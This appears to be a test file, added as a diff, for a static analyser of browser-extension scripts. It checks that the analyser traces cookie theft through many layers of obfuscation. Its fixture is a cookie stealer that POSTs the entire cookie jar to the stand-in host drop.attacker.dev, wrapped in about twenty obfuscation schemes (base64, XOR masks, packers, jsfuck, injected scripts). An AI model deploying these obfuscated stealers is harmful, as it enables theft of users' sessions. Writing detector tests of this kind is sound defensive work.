@@ -1,0 +1,117 @@
+import assert from 'node:assert/strict';
+import { describe, it } from 'node:test';
+import { factsOf } from '../../../testing/facts-of.ts';
+import { jsfuck } from '../../../testing/jsfuck.ts';
+import { packed } from '../../../testing/packer.ts';
+
+const thief =
+  "chrome.cookies.getAll({}, function (jar) { fetch('https://drop.attacker.dev/p', { method: 'POST', body: JSON.stringify(jar) }); });";
+const base64 = Buffer.from(thief).toString('base64');
+const codes = Array.from(thief, (letter) => letter.charCodeAt(0));
+const hex = Buffer.from(thief).toString('hex');
+const backwards = Array.from(thief).reverse().join('');
+
+describe('code in a constant text', () => {
+  const cases: readonly [string, string][] = [
+    ['plain', `eval(${JSON.stringify(thief)})`],
+    ['packed', packed(thief)],
+    ['packed, under other names', packed(thief, 'q,b,n,w,f,t')],
+    ['packed twice', packed(packed(thief))],
+    ['of base64', `eval(atob('${base64}'))`],
+    [
+      'of base64 twice',
+      `window['ev' + 'al'](atob(atob('${Buffer.from(base64).toString('base64')}')))`,
+    ],
+    ['of base64 and percent signs', `eval(decodeURIComponent(escape(atob('${base64}'))))`],
+    ['of percent signs', `eval(unescape('${hex.replaceAll(/../g, '%$&')}'))`],
+    ['of character codes', `Function(String.fromCharCode(${codes.join()}))()`],
+    [
+      'of character codes in an array',
+      `setTimeout(String.fromCharCode.apply(null, [${codes.join()}]), 40)`,
+    ],
+    [
+      'written backwards',
+      `new Function(${JSON.stringify(backwards)}.split('').reverse().join(''))()`,
+    ],
+    [
+      'of codes under a mask, in a loop',
+      `var d = [${codes.map((code) => code ^ 77).join()}], s = ''; for (var i = 0; i < d.length; i++) s += String.fromCharCode(d[i] ^ 77); eval(s)`,
+    ],
+    [
+      'of codes under a mask, by map',
+      `eval([${codes.map((code) => code ^ 19).join()}].map(c => String.fromCharCode(c ^ 19)).join(''))`,
+    ],
+    [
+      'of codes with an offset, by forEach',
+      `let text = ''; [${codes.map((code) => code + 5).join()}].forEach(function (code) { text += String.fromCharCode(code - 5); }); eval(text)`,
+    ],
+    [
+      'of hexadecimal pairs, by a function with a key',
+      `function open(s, k) { var out = []; for (var i = 0; i < s.length; i += 2) out.push(String.fromCharCode(parseInt(s.substr(i, 2), 16) ^ k.charCodeAt(i / 2 % k.length))); return out.join(''); } eval(open('${Buffer.from(codes.map((code, index) => code ^ 'k7Q'.charCodeAt(index % 3))).toString('hex')}', 'k7Q'))`,
+    ],
+    [
+      'of bytes',
+      `eval(new TextDecoder().decode(Uint8Array.from(atob('${base64}'), c => c.charCodeAt(0))))`,
+    ],
+    [
+      'decoded step by step',
+      `var p = '${Buffer.from(backwards).toString('base64')}'; p = atob(p); p = p.split('').reverse().join(''); eval(p)`,
+    ],
+    ['reached through constructors', `[]['filter']['constructor'](${JSON.stringify(thief)})()`],
+    ['of a script that is injected', `chrome.tabs.executeScript(7, { code: atob('${base64}') })`],
+    ['of brackets alone', jsfuck(thief)],
+  ];
+  for (const [name, source] of cases) {
+    it(`${name} counts like any script`, () => {
+      const facts = factsOf(source);
+      assert.deepEqual(
+        facts.usesOf('chrome.cookies.getAll').map(({ isDecoded }) => isDecoded),
+        [true],
+      );
+      assert.deepEqual(
+        facts.endpoints.map(({ host, method }) => [host, method]),
+        [['drop.attacker.dev', 'POST']],
+      );
+      assert.deepEqual(
+        facts.flows.map(({ source: { kind }, sink }) => [kind, sink.kind]),
+        [['cookies', 'network']],
+      );
+      assert.deepEqual(facts.skipped, []);
+    });
+  }
+
+  it('stands at the place of what runs it', () => {
+    const [use] = factsOf(`\n\n   eval(${JSON.stringify(`\n\n${thief}`)})`).usesOf(
+      'chrome.cookies.getAll',
+    );
+    assert.deepEqual(use?.at, { file: 'worker.js', line: 3, column: 4 });
+  });
+
+  it('sees the names around it, and a made function what it is called with', () => {
+    const facts = factsOf(
+      `function run(host) { eval("fetch('https://' + place + '/a')"); } const place = 'one.attacker.dev'; Function('u', 'o', 'fetch(u, o)')('https://two.attacker.dev/b', { method: 'PUT' });`,
+    );
+    assert.deepEqual(
+      facts.endpoints.map(({ host, method }) => [host, method]),
+      [
+        ['one.attacker.dev', 'GET'],
+        ['two.attacker.dev', 'PUT'],
+      ],
+    );
+  });
+
+  it('is not read again where a function of the script itself is quoted', () => {
+    const facts = factsOf(
+      "const s = document.createElement('script'); s.textContent = '(' + hook + ')()'; function hook() { chrome.tabs.query({}, send); }",
+    );
+    assert.equal(facts.usesOf('chrome.tabs.query').length, 1);
+  });
+
+  it('is told as not read where it nests too deeply', () => {
+    let source = thief;
+    for (let depth = 0; depth < 6; depth += 1) source = `eval(${JSON.stringify(source)})`;
+    assert.deepEqual(factsOf(source).skipped, [
+      { what: 'worker.js', why: 'holds more code in texts than is read' },
+    ]);
+  });
+});
